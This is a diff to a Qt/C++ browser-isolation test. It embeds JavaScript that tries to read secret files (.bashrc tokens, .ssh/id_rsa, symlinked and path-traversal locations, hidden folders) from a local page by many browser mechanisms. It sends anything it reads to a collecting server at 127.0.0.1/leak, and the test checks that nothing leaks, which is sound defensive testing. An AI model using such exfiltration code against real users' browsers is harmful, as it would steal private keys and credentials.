@@ -139,6 +139,9 @@ const ways = {
   'event source': u => new Promise((res, rej) => {
     const s = new EventSource(u); s.onmessage = e => { s.close(); res(e.data); };
     s.onerror = () => { s.close(); rej(); }; }),
+  websocket: u => new Promise((res, rej) => {
+    const s = new WebSocket(abs(u).replace(/^[a-z-]+:/, 'ws:'));
+    s.onmessage = e => { s.close(); res(e.data); }; s.onerror = rej; }),
   'worker reading': u => new Promise((res, rej) => {
     const code = 'const u = ' + JSON.stringify(abs(u)) + ';' +
       'fetch(u).then(r => r.text()).then(t => postMessage(t), () => {});' +
@@ -217,20 +220,36 @@ function attempt(what, run) {
     wait(6000)]);
 }
 
+// The page's own files: shown and run, never read.
+const ownSheet = loaded(element('link', { rel: 'stylesheet', href: 'own.css' }, document.head));
+const ownImage = loaded(element('img', { src: 'own.svg' }));
+const ownModule = import('./own.mjs');
 const own = [
   ['xhr', ways.xhr('own.txt')],
-  ['module', import('./own.mjs').then(m => m.own)],
+  ['fetch', ways.fetch('own.txt')],
+  ['event source', ways['event source']('own.txt')],
+  ['module', ownModule.then(m => m.own)],
+  ['script', loaded(element('script', { src: 'own.js' })).then(() => window.ownScript)],
   ['json', import('./own.json', { assert: { type: 'json' } }).then(m => m.default.own)],
-  ['css', loaded(element('link', { rel: 'stylesheet', href: 'own.css' }, document.head))
-      .then(l => l.sheet.cssRules[0].cssText)],
-  ['image', loaded(element('img', { src: 'own.svg' })).then(i => {
+  ['css rules', ownSheet.then(l => l.sheet.cssRules[0].cssText)],
+  ['css applied', ownSheet.then(() => 'OWN ' +
+      getComputedStyle(element('p', { className: 'own' }), '::after').content)],
+  ['image shown', ownImage.then(i => 'OWN ' + i.naturalWidth)],
+  ['image pixels', ownImage.then(i => {
       const c = element('canvas', { width: 5, height: 5 }); const g = c.getContext('2d');
       g.drawImage(i, 0, 0); return 'OWN ' + g.getImageData(2, 2, 1, 1).data.join(); })],
+  ['framed', new Promise((res, rej) => {
+      addEventListener('message', e => { if (e.data === 'framed done') res('OWN ran'); });
+      setTimeout(rej, 20000); element('iframe', { src: 'framed.html' }); })],
   ['cdn style', wait(0).then(() => document.readyState === 'complete' ? 0 : loaded(window))
       .then(() => 'OWN ' + getComputedStyle(document.body).color)],
   ['cdn image', Promise.resolve(document.getElementById('cdn')).then(i =>
       i.complete ? i : loaded(i)).then(i => 'OWN ' + i.naturalWidth)],
 ].map(([what, read]) => read.then(data => send('own', what, data), e => send('own-failed', what, e)));
+
+// Inside the page's folder a script file is the page's own to run, as any
+// browser runs it: only the ways that read are tried there.
+const runs = ['script', 'module import', 'module script'];
 
 // Each attempt asks with a query of its own: a preloaded answer is handed
 // out once, and one attempt must not use up another's.
@@ -239,21 +258,69 @@ const add = (way, target, run) => {
   const u = target + '?' + attempts.length;
   attempts.push(attempt(way + ': ' + target, () => run(u)));
 };
-for (const place of PLACES) {
-  for (const name in typed)
-    for (const way in typed[name]) add(way, place + name, typed[name][way]);
-  for (const way in ways) add(way, place + 'secret.txt', ways[way]);
-}
-for (const file of FILES)
-  for (const way in ways) add(way, file, ways[way]);
+// Where the page's files really come from is no secret to its modules: the
+// folder's file host is attacked by name too.
+const addAll = places => {
+  for (const place of places) {
+    const inside = INSIDE.includes(place);
+    for (const name in typed)
+      for (const way in typed[name])
+        if (!inside || !runs.includes(way)) add(way, place + name, typed[name][way]);
+    for (const way in ways) add(way, place + 'secret.txt', ways[way]);
+  }
+};
+const fileHost = ownModule.then(m => new URL('./', m.base).href, () => '');
+const allAdded = fileHost.then(base => {
+  addAll(PLACES);
+  for (const file of FILES)
+    for (const way in ways) add(way, file, ways[way]);
+  if (base) {
+    INSIDE.push(base, base + 'letters/');
+    addAll([base, base + 'letters/']);
+    for (const way in ways) add(way, base + 'link.txt', ways[way]);
+  }
+});
 // Preloads in the markup itself, read once the document has loaded.
 const whole = document.readyState === 'complete' ? Promise.resolve() : loaded(window);
 for (const l of document.querySelectorAll('link[rel=preload]'))
   for (const mode of ['cors', 'same-origin', 'no-cors'])
     attempts.push(attempt('markup preload then fetch ' + mode + ': ' + l.getAttribute('href'),
         () => whole.then(() => fetch(l.href, { mode: mode })).then(r => r.text())));
-Promise.all(own.concat(attempts)).then(() => send('done', attempts.length, ''));
+allAdded.then(() => Promise.all(own.concat(attempts)))
+    .then(() => send('done', attempts.length + (INSIDE.length > 2 ? ' file host' : ''), ''));
 )JS";
+
+// A document of the page's folder shown in a frame tries the reads again from
+// where it is served: the folder's file host, which must not make it one
+// origin with the files. PORT is the collecting server's.
+const char* const kFramed = R"JS(<!DOCTYPE html><p>Framed</p><script>
+const leak = (what, data) => String(data).indexOf('SECRET') < 0 ? 0 :
+  fetch('http://127.0.0.1:PORT/leak?what=' + encodeURIComponent('framed ' + what) + '&data=' +
+        encodeURIComponent(String(data).slice(0, 300)), { mode: 'no-cors' }).catch(() => {});
+const settle = (run, ok) => new Promise((res, rej) => run(v => { try { res(ok(v)); }
+  catch (e) { rej(e); } }, rej));
+const tries = {
+  fetch: () => fetch('secret.txt').then(r => r.text()),
+  xhr: () => settle((res, rej) => { const x = new XMLHttpRequest(); x.onload = () => res(x);
+    x.onerror = rej; x.open('GET', 'letters/secret.txt'); x.send(); }, x => x.responseText),
+  json: () => import('./secret.json', { assert: { type: 'json' } })
+    .then(m => JSON.stringify(m.default)),
+  'css rules': () => settle((res, rej) => { const l = document.createElement('link');
+    l.rel = 'stylesheet'; l.href = 'secret.css'; l.onload = () => res(l); l.onerror = rej;
+    document.head.appendChild(l); }, l => Array.from(l.sheet.cssRules).map(r => r.cssText).join()),
+  canvas: () => settle((res, rej) => { const i = new Image(); i.onload = () => res(i);
+    i.onerror = rej; i.src = 'secret.svg'; }, i => { const c = document.createElement('canvas');
+    c.width = c.height = 5; const g = c.getContext('2d'); g.drawImage(i, 0, 0);
+    return 'SECRET_PIXELS ' + g.getImageData(2, 2, 1, 1).data.join(); }),
+  'frame of a file': () => settle((res, rej) => { const f = document.createElement('iframe');
+    f.onload = () => res(f); f.src = 'secret.txt'; document.body.appendChild(f); },
+    f => f.contentDocument.documentElement.textContent),
+  'the page': () => parent.document.documentElement.outerHTML,
+};
+Promise.all(Object.entries(tries).map(([what, run]) => Promise.race([
+  Promise.resolve().then(run).then(d => leak(what, d), () => {}),
+  new Promise(r => setTimeout(r, 5000))]))).then(() => parent.postMessage('framed done', '*'));
+</script>)JS";
 
 QString jsonList(const QStringList& items) {
   return QString::fromUtf8(
@@ -278,6 +345,10 @@ class PreviewIsolationTest final : public QObject {
     const QString outside = root.filePath("outside");
     writeSecrets(outside);
     writeSecrets(QDir(home).filePath(".hidden"));
+    // The user's own files beside the page and below it, visible and regular:
+    // a pack unzipped onto the Desktop.
+    writeSecrets(home);
+    writeSecrets(QDir(home).filePath("letters"));
     testfiles::write(QDir(outside).filePath("users page.htm"), "<p>another page</p>");
     testfiles::write(QDir(home).filePath(".bashrc"), "export TOKEN=SECRET_BASHRC\n");
     QDir(home).mkpath(".ssh");
@@ -286,7 +357,9 @@ class PreviewIsolationTest final : public QObject {
     QVERIFY(QFile::link(QDir(home).filePath(".bashrc"), QDir(home).filePath("bashrc.txt")));
     QVERIFY(QFile::link(outside, QDir(home).filePath("linked")));
     testfiles::write(QDir(home).filePath("own.txt"), "OWN text");
-    testfiles::write(QDir(home).filePath("own.mjs"), "export const own = 'OWN module';");
+    testfiles::write(QDir(home).filePath("own.mjs"),
+                     "export const own = 'OWN module'; export const base = import.meta.url;");
+    testfiles::write(QDir(home).filePath("own.js"), "window.ownScript = 'OWN script';");
     testfiles::write(QDir(home).filePath("own.json"), "{\"own\": \"OWN json\"}");
     testfiles::write(QDir(home).filePath("own.css"), ".own::after { content: 'OWN css'; }");
     testfiles::write(QDir(home).filePath("own.svg"),
@@ -295,16 +368,21 @@ class PreviewIsolationTest final : public QObject {
 
     WebServer server;
     QVERIFY(server.port() != 0);
+    testfiles::write(QDir(home).filePath("framed.html"),
+                     QByteArray(kFramed).replace("PORT", QByteArray::number(server.port())));
     const QString outsideFile = QUrl::fromLocalFile(outside).toString() + u'/';
     const QString otherFolder =
         pagescheme::urlOf(QDir(outside).filePath("users page.htm")).resolved(QUrl("./")).toString();
-    const QStringList places = {outsideFile,
-                                QStringLiteral("../outside/"),
-                                QStringLiteral("%2e%2e/outside/"),
-                                QStringLiteral("linked/"),
-                                QStringLiteral(".hidden/"),
-                                otherFolder,
-                                QUrl::fromLocalFile(home).toString() + QStringLiteral("/.hidden/")};
+    const QStringList inside = {QString(), QStringLiteral("letters/")};
+    const QStringList places =
+        QStringList(inside) +
+        QStringList{outsideFile,
+                    QStringLiteral("../outside/"),
+                    QStringLiteral("%2e%2e/outside/"),
+                    QStringLiteral("linked/"),
+                    QStringLiteral(".hidden/"),
+                    otherFolder,
+                    QUrl::fromLocalFile(home).toString() + QStringLiteral("/.hidden/")};
     const QStringList files = {QStringLiteral(".bashrc"),
                                QStringLiteral(".ssh/id_rsa"),
                                QStringLiteral("link.txt"),
@@ -322,10 +400,12 @@ class PreviewIsolationTest final : public QObject {
         page, QStringLiteral("<!DOCTYPE html><html><head><meta charset='utf-8'>"
                              "<link rel='stylesheet' href='http://127.0.0.1:%1/cdn.css'>%5</head>"
                              "<body><p>Offer</p><img id='cdn' src='http://127.0.0.1:%1/cdn.svg'>"
-                             "<script>const PORT = %1; const PLACES = %2; const FILES = %3;\n%4"
+                             "<script>const PORT = %1; const PLACES = %2; const FILES = %3;"
+                             " const INSIDE = %6;\n%4"
                              "</script></body></html>")
                   .arg(server.port())
-                  .arg(jsonList(places), jsonList(files), QString::fromLatin1(kAttack), preloads)
+                  .arg(jsonList(places), jsonList(files), QString::fromLatin1(kAttack), preloads,
+                       jsonList(inside))
                   .toUtf8());
 
     WebBrowser browser;
@@ -341,7 +421,7 @@ class PreviewIsolationTest final : public QObject {
     };
     while (!done()) QVERIFY2(received.wait(120000), "the page never finished its attempts");
 
-    QStringList leaks, own;
+    QStringList leaks, own, refused;
     for (const QUrl& url : server.requests) {
       const QUrlQuery query(url);
       const QString what = query.queryItemValue("what", QUrl::FullyDecoded);
@@ -349,18 +429,24 @@ class PreviewIsolationTest final : public QObject {
       if (QUrl::fromPercentEncoding(url.toEncoded()).contains(u"SECRET"))
         leaks << what + QStringLiteral(" -> ") + data;
       if (url.path() == u"/own") own << what + u'=' + data;
-      if (url.path() == u"/own-failed") qWarning() << "own file not read:" << what << data;
+      if (url.path() == u"/own-failed") refused << what;
     }
     for (const QString& leak : leaks) qWarning().noquote() << "reached the server:" << leak;
     QVERIFY2(leaks.isEmpty(),
              qPrintable(QStringLiteral("%1 secrets reached the server").arg(leaks.size())));
-    qInfo() << "attempts made:" << QUrlQuery(server.requests.last()).queryItemValue("what");
+    const QString made = QUrlQuery(server.requests.last()).queryItemValue("what");
+    qInfo() << "attempts made:" << made;
+    QVERIFY2(made.endsWith(u"file host"), "the folder's file host was not attacked by name");
     // The way out was open all along, and the page's own files and the web
-    // resources it names were there for it.
+    // resources it names were there for it to show and run; no read of its
+    // own files' contents worked either.
     own.sort();
     QCOMPARE(own, (QStringList{"cdn image=OWN 9", "cdn style=OWN rgb(1, 2, 3)",
-                               "css=.own::after { content: \"OWN css\"; }", "image=OWN 0,255,0,255",
-                               "json=OWN json", "module=OWN module", "xhr=OWN text"}));
+                               "css applied=OWN \"OWN css\"", "framed=OWN ran", "image shown=OWN 5",
+                               "module=OWN module", "script=OWN script"}));
+    refused.sort();
+    QCOMPARE(refused,
+             (QStringList{"css rules", "event source", "fetch", "image pixels", "json", "xhr"}));
   }
 };
 
